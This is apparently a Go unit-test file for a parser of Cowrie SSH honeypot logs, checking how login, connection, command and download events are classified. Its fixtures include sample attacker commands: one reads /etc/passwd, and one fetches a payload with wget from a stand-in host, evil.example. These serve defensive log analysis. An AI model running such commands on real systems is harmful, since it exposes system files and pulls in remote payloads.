package parser

import (
	"testing"
	"time"
)

func TestCowrieParser_Parse_LoginSucceeded(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:00:58.194252Z [HoneyPotSSHTransport,7,35.240.141.162] login attempt [b'root'/b'Passw0rd'] succeeded"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindLogin {
		t.Errorf("Expected kind 'login', got '%s'", evt.Kind)
	}
	if evt.IP != "35.240.141.162" {
		t.Errorf("Expected IP '35.240.141.162', got '%s'", evt.IP)
	}
	if evt.Login == nil {
		t.Fatal("Expected login details, got nil")
	}
	if evt.Login.Username != "root" {
		t.Errorf("Expected user 'root', got '%s'", evt.Login.Username)
	}
	if evt.Login.Password != "Passw0rd" {
		t.Errorf("Expected password 'Passw0rd', got '%s'", evt.Login.Password)
	}
	if !evt.Login.Succeeded {
		t.Error("Expected succeeded=true")
	}

	want := time.Date(2025, 8, 21, 0, 0, 58, 194252000, time.UTC)
	if !evt.Timestamp.Equal(want) {
		t.Errorf("Expected timestamp %v, got %v", want, evt.Timestamp)
	}
}

func TestCowrieParser_Parse_LoginFailed(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:01:02.582816Z [HoneyPotSSHTransport,8,103.85.95.44] login attempt [b'admin'/b'admin123'] failed"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Login == nil {
		t.Fatal("Expected login details, got nil")
	}
	if evt.Login.Succeeded {
		t.Error("Expected succeeded=false")
	}
	if evt.Login.Username != "admin" {
		t.Errorf("Expected user 'admin', got '%s'", evt.Login.Username)
	}
}

func TestCowrieParser_Parse_Connection(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:00:57.082956Z [cowrie.ssh.factory.CowrieSSHFactory] New connection: 35.240.141.162:56162 (45.79.209.210:2222) [session: ec0fe607df83]"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindConnection {
		t.Errorf("Expected kind 'connection', got '%s'", evt.Kind)
	}
	if evt.IP != "35.240.141.162" {
		t.Errorf("Expected IP '35.240.141.162' (first dotted quad, port stripped), got '%s'", evt.IP)
	}
	if evt.SessionID != "ec0fe607df83" {
		t.Errorf("Expected session 'ec0fe607df83', got '%s'", evt.SessionID)
	}
}

func TestCowrieParser_Parse_Command(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:01:10.000001Z [SSHChannel session (0) on SSHService] CMD: cat /etc/passwd; echo done:ok"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindCommand {
		t.Errorf("Expected kind 'command', got '%s'", evt.Kind)
	}
	if evt.Command == nil {
		t.Fatal("Expected command details, got nil")
	}
	if evt.Command.Command != "cat /etc/passwd; echo done:ok" {
		t.Errorf("Command text not verbatim, got '%s'", evt.Command.Command)
	}
}

func TestCowrieParser_Parse_Download(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:02:00.123456Z [SSHChannel session (0)] Downloading with wget http://evil.example/payload.sh"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindDownload {
		t.Errorf("Expected kind 'download', got '%s'", evt.Kind)
	}
}

func TestCowrieParser_Parse_Unknown(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:03:00.000000Z [twisted.internet] Some unrecognized event"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindUnknown {
		t.Errorf("Expected kind 'unknown', got '%s'", evt.Kind)
	}
	if evt.Login != nil || evt.Command != nil {
		t.Error("Unknown events must not carry kind-specific details")
	}
}

func TestCowrieParser_Parse_Unparseable(t *testing.T) {
	p := NewCowrieParser()

	cases := []string{
		"Not a valid log line",
		"no timestamp terminator here",
		"2025-08-21T00:00:58Z missing fractional seconds",
		"2025-99-99T00:00:58.194252Z impossible date",
	}

	for _, line := range cases {
		if evt := p.Parse(line); evt != nil {
			t.Errorf("Expected nil for %q, got event kind %s", line, evt.Kind)
		}
	}
}

func TestCowrieParser_Parse_LoginPrecedesCommand(t *testing.T) {
	p := NewCowrieParser()

	// "login attempt" wins over "CMD:" when both appear
	line := "2025-08-21T00:04:00.000000Z login attempt [b'x'/b'CMD: y'] failed"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.Kind != KindLogin {
		t.Errorf("Expected kind 'login' by precedence, got '%s'", evt.Kind)
	}
}

func TestCowrieParser_Parse_MissingOptionalFields(t *testing.T) {
	p := NewCowrieParser()

	line := "2025-08-21T00:05:00.000000Z [server] New connection attempt without address"
	evt := p.Parse(line)

	if evt == nil {
		t.Fatal("Expected parsed event, got nil")
	}
	if evt.IP != "" {
		t.Errorf("Expected empty IP, got '%s'", evt.IP)
	}
	if evt.SessionID != "" {
		t.Errorf("Expected empty session, got '%s'", evt.SessionID)
	}
}

func TestStripDecoration(t *testing.T) {
	cases := map[string]string{
		"b'root'":   "root",
		`b"admin"`:  "admin",
		`"guest"`:   "guest",
		"'pi'":      "pi",
		"plainuser": "plainuser",
	}
	for in, want := range cases {
		if got := stripDecoration(in); got != want {
			t.Errorf("stripDecoration(%q) = %q, want %q", in, got, want)
		}
	}
}
